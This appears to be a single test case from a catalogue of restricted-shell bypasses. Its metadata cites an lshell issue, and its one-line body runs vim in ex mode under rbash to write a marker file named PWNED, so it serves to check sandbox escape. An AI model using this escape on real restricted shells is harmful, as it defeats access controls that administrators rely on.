#@ id: rb-vim
#@ about: creates PWNED
#@ class: restricted-shell
#@ kind: bypass
#@ origin: https://github.com/ghantoos/lshell/issues/55
#@ world: catalogue
#@ timeout: 20s
#@ effect: create PWNED
#@ exit: 0
#@ body: no-final-newline
#@ ---
rbash -c "vim -es -u NONE -c 'call writefile([\"x\"],\"PWNED\")' -c 'qa!'"
